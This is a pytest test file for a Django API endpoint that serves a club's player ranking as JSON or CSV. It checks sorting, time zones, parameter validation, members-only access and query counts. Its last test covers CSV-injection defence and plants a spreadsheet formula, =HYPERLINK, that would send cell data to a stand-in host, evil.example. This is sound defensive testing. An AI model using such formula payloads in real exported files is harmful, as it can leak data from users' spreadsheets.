"""``GET /api/v1/clubs/{slug}/ranking/``: JSON and CSV, the period and the sort asked by the
query string, members-only clubs, bad parameters, and a constant number of queries."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework import serializers

from clubs.models import Club
from ratings.api.ranking import ClubRankingOutSerializer
from ratings.ranking import club_ranking
from tests.clubs.factories import ClubFactory
from tests.helpers import assert_error_shape, assert_shape, client_for, login, member_login
from tests.ratings.ranking_club import MARCH, club_of_tables, ranking_club

pytestmark = pytest.mark.django_db

MARCH_QUERY = "from=2024-03-01&to=2024-03-31"


@pytest.fixture
def rc(django_capture_on_commit_callbacks):
    return ranking_club(django_capture_on_commit_callbacks)


def url(club: Club, query: str = "") -> str:
    return f"/api/v1/clubs/{club.slug}/ranking/" + (f"?{query}" if query else "")


def test_json_numbers_and_shape(rc, api_client):
    """March by total (see test_ranking.py for the figures): numbers as numbers, rates
    rounded to 4 places, averages to 2."""
    response = api_client.get(url(rc.club, f"{MARCH_QUERY}&sort=total"))
    assert response.status_code == 200, response.json()
    body = response.json()
    assert_shape(body, ClubRankingOutSerializer())
    assert body["period"] == {"from": "2024-03-01", "to": "2024-03-31",
                              "time_zone": "Asia/Shanghai"}  # fmt: skip
    assert (body["sort"], body["order"], body["min_sessions"]) == ("total", "desc", 0)
    assert [r["name"] for r in body["rows"]] == ["Annie", "Dan", "Bob", "Eve", "Cai"]
    assert [r["rank"] for r in body["rows"]] == [1, 2, 3, 4, 5]
    bob = body["rows"][2]
    assert bob["player"] == rc.bob.pk
    assert {k: bob[k] for k in ("sessions", "hands", "total", "average", "places", "wins",
                                "self_draws", "deal_ins", "win_rate", "self_draw_rate",
                                "deal_in_rate", "average_win", "biggest_hand")} == {
        "sessions": 3, "hands": 6, "total": 0, "average": 0.0, "places": [1, 0, 1, 1],
        "wins": 4, "self_draws": 1, "deal_ins": 1, "win_rate": 0.6667, "self_draw_rate": 0.25,
        "deal_in_rate": 0.1667, "average_win": 1.75, "biggest_hand": 4,
    }  # fmt: skip
    cai = body["rows"][4]
    assert cai["average"] == -3.33 and cai["win_rate"] == 0.3333
    annie = body["rows"][0]
    assert annie["self_draw_rate"] is None and annie["average_win"] is None
    assert isinstance(annie["rating"], float) and annie["provisional"] is True


def test_the_written_out_rows_are_the_declared_fields(rc):
    """ClubRankingOutSerializer writes its answer out directly (for speed): the same keys, order
    and values as its declared fields, None rates and an unrated player included (the rows'
    fields and their writing are both made of ``RANKING``'s columns)."""
    rc.eve.ratings.all().delete()
    ranking = club_ranking(rc.club, MARCH)
    fast = ClubRankingOutSerializer(ranking).data
    declared = serializers.Serializer.to_representation(ClubRankingOutSerializer(ranking), ranking)
    assert list(fast.items()) == list(declared.items())
    assert any(row["rating"] is None for row in fast["rows"])


def test_period_min_sessions_sort_and_order(rc, api_client):
    body = api_client.get(url(rc.club, f"{MARCH_QUERY}&min_sessions=3&sort=name")).json()
    assert [r["name"] for r in body["rows"]] == ["Bob", "Cai"]  # a name sorts A→Z by default
    assert body["order"] == "asc"
    body = api_client.get(url(rc.club, f"{MARCH_QUERY}&sort=name&order=desc")).json()
    assert [r["name"] for r in body["rows"]] == ["Eve", "Dan", "Cai", "Bob", "Annie"]
    body = api_client.get(url(rc.club, "from=2024-04-01")).json()
    assert {r["name"]: r["sessions"] for r in body["rows"]} == {"Annie": 1, "Bob": 1,
                                                               "Cai": 1, "Dan": 1}  # fmt: skip
    body = api_client.get(url(rc.club)).json()  # all time, by rating
    assert body["period"] == {"from": None, "to": None, "time_zone": "Asia/Shanghai"}
    ratings = [r["rating"] for r in body["rows"]]
    assert len(ratings) == 5 and ratings == sorted(ratings, reverse=True)


def test_the_period_follows_the_clubs_own_time_zone(django_capture_on_commit_callbacks,
                                                     api_client):  # fmt: skip
    """The same instants in a club of London: S_a (29 Feb 16:30 there) leaves March and S_c
    (31 Mar 17:30, summer time) joins it."""
    rc = ranking_club(django_capture_on_commit_callbacks, time_zone="Europe/London")
    body = api_client.get(url(rc.club, MARCH_QUERY)).json()
    assert body["period"]["time_zone"] == "Europe/London"
    # Annie: S_d, S_c; Bob and Cai: S_b, S_d, S_c; Dan: S_b, S_c; Eve: S_b, S_d
    assert {r["name"]: r["sessions"] for r in body["rows"]} == {
        "Annie": 2, "Bob": 3, "Cai": 3, "Dan": 2, "Eve": 2,
    }  # fmt: skip
    assert next(r for r in body["rows"] if r["name"] == "Dan")["total"] == -1 - 1


def test_csv(rc, api_client):
    response = api_client.get(url(rc.club, f"{MARCH_QUERY}&sort=total&format=csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == [
        "rank", "player", "name", "rating", "provisional", "rated_sessions", "delta", "sessions",
        "hands", "total", "average", "place_1", "place_2", "place_3", "place_4", "wins",
        "self_draws", "deal_ins", "win_rate", "self_draw_rate", "deal_in_rate", "average_win",
        "biggest_hand",
    ]  # fmt: skip
    rows = list(reader)
    assert [r["name"] for r in rows] == ["Annie", "Dan", "Bob", "Eve", "Cai"]
    bob = rows[2]
    assert (bob["total"], bob["place_1"], bob["place_3"], bob["place_4"]) == ("0", "1", "1", "1")
    assert (bob["win_rate"], bob["biggest_hand"]) == ("0.6667", "4")
    assert rows[0]["self_draw_rate"] == ""  # no win: no rate


@pytest.mark.parametrize(
    ("query", "paths"),
    [
        ("sort=luck", ["sort"]),
        ("min_sessions=-1", ["min_sessions"]),
        ("min_sessions=two", ["min_sessions"]),
        ("min_sessions=1000001", ["min_sessions"]),
        ("min_sessions=" + "9" * 5000, ["min_sessions"]),
        ("min_sessions=%D9%A3", ["min_sessions"]),  # an Arabic-Indic 3: a digit, not ASCII
        ("order=up", ["order"]),
        ("from=2024-13-01", ["from"]),
        ("from=2024-03-31&to=2024-03-01", ["to"]),
        ("from=march&sort=luck&min_sessions=x", ["from", "sort", "min_sessions"]),
        ("sort=luck&format=csv", ["sort"]),
    ],
)
def test_bad_parameters_answer_400_in_the_error_shape(query, paths, api_client):
    club = ClubFactory()
    response = api_client.get(url(club, query))
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert [e["path"] for e in assert_error_shape(response.json())] == paths


def test_a_members_only_club_is_hidden_from_outsiders(rc, api_client):
    Club.objects.filter(pk=rc.club.pk).update(visibility=Club.Visibility.MEMBERS)
    outsider = client_for(login())
    for client in (api_client, outsider):
        for query in ("", "format=csv"):
            response = client.get(url(rc.club, query))
            assert response.status_code == 404
            assert_error_shape(response.json())
    response = client_for(member_login(rc.club)).get(url(rc.club))
    assert response.status_code == 200 and len(response.json()["rows"]) == 5
    assert api_client.get("/api/v1/clubs/no-such-club/ranking/").status_code == 404


def test_the_query_count_is_the_same_for_4_and_12_players(
    django_capture_on_commit_callbacks, api_client
):
    """One table of 4 players, or three tables of 12 with 1, 2 and 3 hands: the same number
    of queries — computed (the club, its read version, then the four of club_ranking), then
    the JSON's ranking kept for the CSV (the club and its read version alone)."""
    counts = []
    for tables in (1, 3):
        club = club_of_tables(tables, django_capture_on_commit_callbacks)
        for query in ("", "format=csv"):
            with CaptureQueriesContext(connection) as queries:
                response = api_client.get(url(club, query))
            assert response.status_code == 200
            counts.append(len(queries))
    assert counts[0] == counts[2] and counts[1] == counts[3]
    assert counts[0] <= 6 and counts[1] <= 2


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(rc, api_client):
    """A player named ``=HYPERLINK(...)`` in a public club's ranking was written as it is: a
    formula in every spreadsheet that opens the file (OWASP's CSV injection). Text cells
    beginning with = + - @ get a leading apostrophe; negative numbers stay numbers."""
    from clubs.models import Membership, Player

    names = {"Bob": "@SUM(1+1)", "Dan": "+1-2", "Eve": "-Eve"}
    for old, new in names.items():
        Player.objects.filter(name=old).update(name=new)
    annie = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Membership.objects.filter(display_name="Annie").update(display_name=annie)
    response = api_client.get(url(rc.club, f"{MARCH_QUERY}&sort=total&format=csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    expected = ["Cai", "'" + annie, *("'" + n for n in names.values())]
    assert sorted(r["name"] for r in rows) == sorted(expected)
    # every total is still a number, the losers' negative ones included
    assert all(int(r["total"]) == int(r["total"].lstrip("'")) for r in rows)
    assert any(r["total"].startswith("-") for r in rows)
